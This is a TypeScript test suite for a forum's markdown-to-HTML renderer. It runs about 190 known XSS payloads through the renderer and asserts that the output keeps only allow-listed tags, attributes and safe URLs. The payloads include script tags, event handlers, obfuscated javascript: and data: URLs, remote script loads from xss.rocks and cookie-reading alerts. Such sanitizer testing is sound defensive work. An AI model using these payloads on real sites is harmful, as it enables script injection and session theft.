import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { describe, expect, test } from 'vitest';
import {
  classifyLinkTarget,
  markdownToPlainText,
  renderMarkdown,
  snippet,
} from '../../src/features/forum/markdown';

type Node = DefaultTreeAdapterMap['childNode'] | DefaultTreeAdapterMap['documentFragment'];
type Element = DefaultTreeAdapterMap['element'];

const SITE = 'https://panelrank.example';

/** Every tag and attribute the renderer may emit; anything else in the output is a failure. */
const ALLOWED: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel', 'class', 'data-list-token'],
  img: ['src', 'alt', 'title', 'loading', 'decoding', 'referrerpolicy'],
  ol: ['start'],
  code: ['class'],
  blockquote: [],
  br: [],
  del: [],
  em: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  hr: [],
  li: [],
  p: [],
  pre: [],
  strong: [],
  ul: [],
};

function elements(node: Node): Element[] {
  const found: Element[] = [];
  const walk = (current: Node) => {
    if ('tagName' in current) found.push(current);
    if ('childNodes' in current) current.childNodes.forEach(walk);
    // <template> content lives apart from childNodes.
    if ('content' in current && current.content) walk(current.content);
  };
  walk(node);
  return found;
}

function comments(node: Node): number {
  let count = 0;
  const walk = (current: Node) => {
    if (current.nodeName === '#comment') count += 1;
    if ('childNodes' in current) current.childNodes.forEach(walk);
  };
  walk(node);
  return count;
}

/** A URL a browser would open safely: a same-origin path or an absolute http(s) URL. */
function isSafeUrl(value: string): boolean {
  // Browsers strip ASCII tab and newline anywhere in a URL and leading/trailing C0 controls and spaces.
  // eslint-disable-next-line no-control-regex -- exactly the characters browsers strip
  const cleaned = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');
  if (/^\/(?![/\\])/.test(cleaned)) return true;
  let url: URL;
  try {
    url = new URL(cleaned);
  } catch {
    return false;
  }
  return url.protocol === 'http:' || url.protocol === 'https:';
}

/** Parses the renderer's output like a browser and lists every problem found. */
function problems(html: string): string[] {
  const fragment = parseFragment(html);
  const found: string[] = [];
  if (comments(fragment) > 0) found.push('comment node');
  for (const element of elements(fragment)) {
    const allowed = ALLOWED[element.tagName];
    if (!allowed) {
      found.push(`tag <${element.tagName}>`);
      continue;
    }
    for (const { name, value } of element.attrs) {
      if (!allowed.includes(name)) found.push(`attribute ${name} on <${element.tagName}>`);
      if (/^on/i.test(name)) found.push(`handler ${name}`);
      if ((name === 'href' || name === 'src') && !isSafeUrl(value)) found.push(`${name}="${value}"`);
      if (name === 'target' && value !== '_blank') found.push(`target="${value}"`);
      if (name === 'class' && !/^(list-chip|language-[\w+-]+)$/.test(value)) found.push(`class="${value}"`);
    }
    const target = element.attrs.find((attr) => attr.name === 'target');
    const rel = element.attrs.find((attr) => attr.name === 'rel')?.value.split(/\s+/) ?? [];
    if (target && !(rel.includes('noopener') && rel.includes('noreferrer'))) found.push('target without rel');
  }
  return found;
}

/*
 * Payloads from OWASP's XSS Filter Evasion Cheat Sheet and PayloadsAllTheThings (XSS Injection, XSS in
 * Markdown), plus markdown-specific forms: link and image targets, reference definitions, autolinks,
 * entity and percent encodings, and raw HTML in every position markdown allows it.
 */
const HTML_PAYLOADS = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="http://66.000146.0x7.147/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)">`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<object data="javascript:alert(1)">`,
  `<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">X</a>`,
  `<a href="&#x6A;avascript:alert(1)">X</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>`,
  `<img src="x" onerror="alert(1)"//`,
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1)>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<div id="x" tabindex=1 onfocus=alert(1) autofocus>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<body/onload=alert(1)>`,
  `<img/src/onerror=alert(1)>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a href="\x01javascript:alert(1)">X</a>`,
  `<a href=" javascript:alert(1)">X</a>`,
  `<a href="java&#x0A;script:alert(1)">X</a>`,
  `<a href="java&Tab;script:alert(1)">X</a>`,
];

const MARKDOWN_PAYLOADS = [
  `[a](javascript:alert('XSS'))`,
  `[a](JaVaScRiPt:alert('XSS'))`,
  `[a](javascript://www.google.com%0Aalert('XSS'))`,
  `[a](javascript:window.onerror=alert;throw%20document.cookie)`,
  `[a](javascript:this;alert(1))`,
  `[a](javas%26%2399;ript:alert(1))`,
  `[a](&#106;avascript:alert(1))`,
  `[a](&#x6A;avascript:alert(1))`,
  `[a](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041)`,
  `[a](Javas&#99;ript:alert(1))`,
  `[a](javascript&colon;alert(1))`,
  `[a](<javascript:alert(1)>)`,
  `[a](< javascript:alert(1)>)`,
  `[a]( javascript:alert(1))`,
  `[a](java	script:alert(1))`,
  `[a](<java\tscript:alert(1)>)`,
  `[a](vbscript:msgbox(1))`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](data:text/html,<script>alert(1)</script>)`,
  `[a](file:///etc/passwd)`,
  `[a](mailto:victim@example.com)`,
  `[a](//evil.example/x)`,
  `[a](/\\evil.example/x)`,
  `[a](\\\\evil.example)`,
  `[a](https://user:pass@evil.example/)`,
  `[a](https://example.com "title\\" onmouseover=alert(1) x=\\"")`,
  `[a](https://example.com"onmouseover="alert(1))`,
  `[a](https://www.example.com/"onmouseover="alert(1))`,
  `[a]('javascript:alert("1")')`,
  `[a](j a v a s c r i p t:prompt(document.cookie))`,
  `[citelol]: (javascript:prompt(document.cookie))`,
  `[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)`,
  `[test](javascript://%0d%0aprompt(1))`,
  `[test](javascript://%0d%0aprompt(1);com)`,
  `[notmalicious](javascript://%0d%0awindow.onerror=alert;throw%20document.cookie)`,
  `[clickme](vbscript:alert(document.domain))`,
  `[x](javascript:alert(1)//http://example.com)`,
  `[x](http://example.com#javascript:alert(1))`,
  `![a](javascript:alert('XSS'))`,
  `![a'"\`onerror=prompt(document.cookie)](x)`,
  `![a](https://www.example.com/image.png"onload="alert(1))`,
  `![a]("onerror="alert(1))`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![a](/relative/path.png)`,
  `![a](//evil.example/i.png)`,
  `![Uh oh...]("onerror="alert('XSS'))`,
  `![x](x" onerror="alert(1))`,
  `[![a](javascript:prompt(document.cookie))](javascript:alert(1))`,
  `[a][ref]\n\n[ref]: javascript:alert(1)`,
  `[a][ref]\n\n[ref]: <javascript:alert(1)> "title"`,
  `![a][img]\n\n[img]: javascript:alert(1)`,
  `[ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<javascript:alert(1)>`,
  `<javascript:alert\`1\`>`,
  `<vbscript:msgbox(1)>`,
  `<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>`,
  `<http://example.com/"onmouseover="alert(1)>`,
  `> <script>alert(1)</script>`,
  `- <img src=x onerror=alert(1)>`,
  `1. [x](javascript:alert(1))`,
  `# <script>alert(1)</script>`,
  `**<img src=x onerror=alert(1)>**`,
  `*[x](javascript:alert(1))*`,
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '```javascript" onmouseover="alert(1)\ncode\n```',
  `    <script>alert(1)</script>`,
  `<div>\n\n[x](javascript:alert(1))\n\n</div>`,
  `<a href="javascript:alert(1)">\n\n[ok](https://example.com)\n\n</a>`,
  `[x](series:1" onmouseover="alert(1))`,
  `[<img src=x onerror=alert(1)>](series:12)`,
  `[x](list:abc"onclick="alert(1))`,
  `[x](list:<script>)`,
  `list:abc"onmouseover="alert(1)`,
  `[x](/lists/abc"onclick="alert(1))`,
  `[x](/lists/abc%22onclick=%22alert(1))`,
  `<a href="list:abc" onclick="alert(1)">x</a>`,
  '\u0000<script>alert(1)</script>',
  `[a](\u0000javascript:alert(1))`,
  `[a](java\u0000script:alert(1))`,
  `[a](https://example.com\u0000"onclick="alert(1))`,
  `[a](\u202ejavascript:alert(1))`,
];

describe('forum markdown: hostile input', () => {
  test.each([...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS])('%s', (payload) => {
    const html = renderMarkdown(payload, { siteOrigin: SITE });
    expect(problems(html)).toEqual([]);
    // Raw HTML never comes through as markup: no element the allow-list lacks, and no script text as code.
    expect(html).not.toMatch(/<(script|iframe|object|embed|svg|math|style|form|input|meta|link|base)\b/i);
  });

  test('the checker itself catches what it must', () => {
    expect(problems('<script>alert(1)</script>')).toContain('tag <script>');
    expect(problems('<a href="javascript:alert(1)">x</a>')).toContain('href="javascript:alert(1)"');
    expect(problems('<a href="java&#x09;script:alert(1)">x</a>').length).toBeGreaterThan(0);
    expect(problems('<img src="x" onerror="alert(1)">')).toContain('handler onerror');
    expect(problems('<a href="//evil.example">x</a>')).toContain('href="//evil.example"');
    expect(problems('<a href="https://x.example" target="_blank">x</a>')).toContain('target without rel');
  });

  test('raw HTML is dropped, not shown as markup', () => {
    expect(renderMarkdown('<b>bold</b> text')).toBe('<p>bold text</p>');
    expect(renderMarkdown('<script>alert(1)</script>')).toBe('');
  });
});

describe('forum markdown: link rules', () => {
  const render = (markdown: string) => renderMarkdown(markdown, { siteOrigin: SITE });

  test('series mentions show as plain text', () => {
    expect(render('Read [Solo Leveling](series:12) now')).toBe('<p>Read Solo Leveling now</p>');
  });

  test('external http(s) links open in a new tab with noopener noreferrer ugc', () => {
    expect(render('[docs](https://example.com/a?b=1)')).toBe(
      '<p><a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer ugc">docs</a></p>',
    );
    expect(render('<http://example.com>')).toContain('target="_blank" rel="noopener noreferrer ugc"');
  });

  test('same-origin links become internal links', () => {
    expect(render('[s](/series/3)')).toBe('<p><a href="/series/3">s</a></p>');
    expect(render(`[t](${SITE}/forum/2#reply-5)`)).toBe('<p><a href="/forum/2#reply-5">t</a></p>');
    expect(render('[up](../forum)')).toBe('<p><a href="/forum">up</a></p>');
  });

  test('protocol-relative and backslash tricks are not same-origin', () => {
    expect(render('[x](//evil.example/p)')).toBe(
      '<p><a href="https://evil.example/p" target="_blank" rel="noopener noreferrer ugc">x</a></p>',
    );
    // micromark percent-encodes the backslash, so this stays a path on this site.
    expect(render('[x](/\\evil.example)')).toBe('<p><a href="/%5Cevil.example">x</a></p>');
  });

  test('unsafe and non-http links keep only their text', () => {
    expect(render('[click](javascript:alert(1))')).toBe('<p>click</p>');
    expect(render('[mail](mailto:a@b.example)')).toBe('<p>mail</p>');
    expect(render('[d](data:text/html,hi)')).toBe('<p>d</p>');
  });

  test('list chips: tokens to /lists/{token}, numeric ids to /my-lists#list-{id}', () => {
    expect(render('[Faves](list:Ab_9-x)')).toBe(
      '<p><a href="/lists/Ab_9-x" class="list-chip" data-list-token="Ab_9-x">Faves</a></p>',
    );
    expect(render('[Mine](list:42)')).toBe('<p><a href="/my-lists#list-42" class="list-chip">Mine</a></p>');
    expect(render('see list:tok123.')).toBe(
      '<p>see <a href="/lists/tok123" class="list-chip" data-list-token="tok123">list:tok123</a>.</p>',
    );
    expect(render('[Shared](/lists/tok456)')).toBe(
      '<p><a href="/lists/tok456" class="list-chip" data-list-token="tok456">Shared</a></p>',
    );
    expect(render('`list:abc`')).toBe('<p><code>list:abc</code></p>');
    expect(render('playlist:abc')).toBe('<p>playlist:abc</p>');
  });

  test('images only from absolute http(s) URLs, lazy and without a referrer', () => {
    expect(render('![cover](https://cdn.example/a.png "A")')).toBe(
      '<p><img src="https://cdn.example/a.png" alt="cover" title="A" loading="lazy" decoding="async" referrerpolicy="no-referrer"></p>',
    );
    expect(render('![alt text](javascript:alert(1))')).toBe('<p>alt text</p>');
    expect(render('![alt text](/local.png)')).toBe('<p>alt text</p>');
  });

  test('headings move two levels down; ordinary markdown survives', () => {
    expect(render('# Title\n\n## Sub')).toBe('<h3>Title</h3>\n<h4>Sub</h4>');
    const html = render('**b** *i* `c`\n\n> q\n\n1. one\n2. two\n\n- a\n\n---\n\n```ts\nx\n```');
    expect(html).toContain('<strong>b</strong>');
    expect(html).toContain('<em>i</em>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<ol>');
    expect(html).toContain('<hr>');
    expect(html).toContain('<pre><code class="language-ts">x\n</code></pre>');
  });

  test('classifyLinkTarget names what each target is', () => {
    expect(classifyLinkTarget('series:7', SITE)).toEqual({ kind: 'series', id: 7 });
    expect(classifyLinkTarget('list:abc', SITE)).toEqual({ kind: 'list', id: 'abc' });
    expect(classifyLinkTarget('/forum', SITE)).toEqual({ kind: 'internal', path: '/forum' });
    expect(classifyLinkTarget('https://x.example', SITE)).toEqual({
      kind: 'external',
      href: 'https://x.example/',
    });
    expect(classifyLinkTarget(' JAVASCRIPT:alert(1)', SITE)).toEqual({ kind: 'unsafe' });
  });
});

describe('forum markdown: plain text', () => {
  test('the text a reader sees, without markup', () => {
    expect(markdownToPlainText('# Hi\n\nRead [Solo](series:1) and **this**.\n\n- a\n- b')).toBe(
      'Hi\nRead Solo and this.\na\nb',
    );
    expect(markdownToPlainText('<script>alert(1)</script>ok')).toBe('');
  });

  test('snippet cuts at a word with an ellipsis', () => {
    expect(snippet('short', 155)).toBe('short');
    const cut = snippet('word '.repeat(60), 155);
    expect(cut.length).toBeLessThanOrEqual(155);
    expect(cut.endsWith('…')).toBe(true);
  });
});
